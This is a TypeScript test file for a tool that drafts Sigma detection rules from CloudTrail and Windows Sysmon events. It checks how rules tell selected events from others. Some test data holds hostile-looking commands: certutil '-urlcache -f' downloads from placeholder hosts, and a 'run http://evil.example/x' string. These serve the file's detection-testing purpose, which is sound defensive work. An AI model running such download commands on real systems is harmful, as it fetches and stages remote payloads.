import { describe, expect, test } from 'vitest';
import { commonPrefix, commonSubstring, commonSuffix, commonWords } from '../../src/authoring/common-text.ts';
import { draftRule } from '../../src/authoring/draft-rule.ts';
import { match } from '../../src/sigma/index.ts';
import type { EventObject } from '../../src/sigma/index.ts';
import { allTen } from '../../src/lessons/events/index.ts';
import { compiled, problems } from '../_helpers/rule.ts';

const seeds = JSON.parse(allTen()) as EventObject[];

const lines = (events: readonly EventObject[], selected: readonly number[]) =>
  draftRule(events, selected).reasons.map(({ line }) => line);

const call = (eventName: string, more: EventObject = {}): EventObject => ({
  eventSource: 'iam.amazonaws.com',
  eventName,
  eventID: crypto.randomUUID(),
  eventTime: '2026-01-02T03:04:05Z',
  ...more,
});

test('two ways to write the same command: the part that both hold and no other event does', () => {
  const draft = draftRule(seeds, [0, 6]);
  expect(draft).toMatchObject({ selected: 2, fires: 2, others: 8, tried: 8, alsoFires: 0 });
  expect(problems(draft.ruleText)).toEqual([]);
  const rule = compiled(draft.ruleText);
  expect(seeds.map((event) => match(rule, event) === 'match')).toEqual(
    seeds.map((_, i) => i === 0 || i === 6),
  );
  expect(draft.ruleText).toContain('requestParameters.containerDefinitions.command|contains:');
  expect(draft.ruleText).toContain('service: cloudtrail');
});

test('what names the operation is said even where nothing is to be told apart', () => {
  expect(lines([call('CreateUser'), call('CreateUser')], [0, 1])).toEqual([
    'eventSource: iam.amazonaws.com',
    'eventName: CreateUser',
  ]);
});

test('what comes once is never asked for', () => {
  const [a, b] = [call('CreateUser'), call('CreateUser')];
  const draft = draftRule([a, b], [0]);
  expect(draft.ruleText).not.toMatch(/eventID|eventTime/);
  expect(draft).toMatchObject({ fires: 1, alsoFires: 1, alsoFiresOn: [1] });
});

test('a call that failed is told from those that did not by the error alone', () => {
  const denied = call('CreateUser', {
    errorCode: 'AccessDenied',
    errorMessage: 'no',
    awsRegion: 'eu-west-1',
  });
  const allowed = call('CreateUser', { awsRegion: 'us-east-1' });
  expect(lines([denied, allowed, allowed], [0]).at(-1)).toBe('errorCode: AccessDenied');
});

test('what cannot be told apart by what is shared is excluded by what the others share', () => {
  const asked = (userAgent: string, user: string) =>
    call('CreateUser', { userAgent, requestParameters: { user } });
  const events = [asked('x/1', 'a'), asked('y/2', 'b'), asked('terraform', 'c'), asked('terraform', 'd')];
  const draft = draftRule(events, [0, 1]);
  expect(draft.ruleText).toContain('condition: selection and not filter');
  expect(draft.reasons.at(-1)).toMatchObject({ line: 'userAgent: terraform', excludes: true, tellsApart: 2 });
  expect(draft).toMatchObject({ fires: 2, alsoFires: 0 });
});

test('of many events few are looked at, and one that was not is told apart all the same', () => {
  const denied = call('CreateUser', { errorCode: 'AccessDenied' });
  const many = Array.from({ length: 5000 }, (_, i) => call(i === 3311 ? 'CreateUser' : 'ListUsers'));
  const draft = draftRule([denied, ...many], [0]);
  expect(draft).toMatchObject({ fires: 1, others: 5000, alsoFires: 0 });
  expect(draft.ruleText).toContain('errorCode: AccessDenied');
});

test('events of several operations are listed', () => {
  const events = [call('CreateUser'), call('DeleteUser'), call('ListUsers')];
  expect(draftRule(events, [0, 1]).ruleText).toContain(
    'eventName:\n      - CreateUser\n      - DeleteUser\n',
  );
});

test('huge values and many of them are no trouble', () => {
  const event = (unit: string, i: number): EventObject => ({
    ...call('PutObject'),
    text: unit.repeat(300_000) + i,
    list: Array.from({ length: 5000 }, (_, n) => `${n} ${i}`),
  });
  const draft = draftRule([event('a', 1), event('b', 2), event('a', 3), { ...call('GetObject') }], [0, 1]);
  expect(draft).toMatchObject({ selected: 2, fires: 2 });
});

test('an event of Windows is of its category', () => {
  const event = (Image: string, CommandLine: string): EventObject => ({
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Image,
    CommandLine,
    ProcessId: 17,
  });
  const events = [
    event('C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://a/x x'),
    event('D:\\temp\\certutil.exe', 'certutil -f -urlcache http://b/y y'),
    event('C:\\Windows\\System32\\certutil.exe', 'certutil -verify c'),
  ];
  const draft = draftRule(events, [0, 1]);
  expect(draft).toMatchObject({ fires: 2, alsoFires: 0 });
  expect(draft.ruleText).toContain('category: process_creation\n  product: windows\n');
  expect(draft.ruleText).not.toContain('ProcessId');
});

test.each([
  ['nothing selected', seeds, []],
  ['no event', [], [0]],
  ['nothing in common', [{ a: 1 }, { b: 2 }], [0, 1]],
  ['no such event', seeds, [99, -1]],
] as const)('%s: no rule', (_, events, selected) => {
  expect(draftRule(events as readonly EventObject[], selected).ruleText).toBe('');
});

describe('what texts have in common', () => {
  test.each([
    [commonPrefix, ['aws-cli/2.1 x', 'AWS-CLI/2.9 y'], 'aws-cli/2'],
    [commonPrefix, ['abc', 'abd'], ''],
    [commonSuffix, ['C:\\x\\cmd.exe', 'D:\\CMD.EXE'], '\\cmd.exe'],
    [commonSubstring, ['run http://evil.example/x now', 'get HTTP://evil.example/y'], 'http://evil.example'],
    [commonSubstring, ['', 'abcdef'], ''],
  ] as const)('%o of %o is %s', (common, texts, expected) => {
    expect(
      common(texts)
        .replace(/[./:]$/, '')
        .toLowerCase(),
    ).toBe(expected);
  });

  test('words of all of them, the longest first', () => {
    expect(commonWords(['certutil -urlcache -f http://a', 'x -F -URLCACHE certutil'])).toEqual([
      '-urlcache',
      'certutil',
    ]);
  });
});
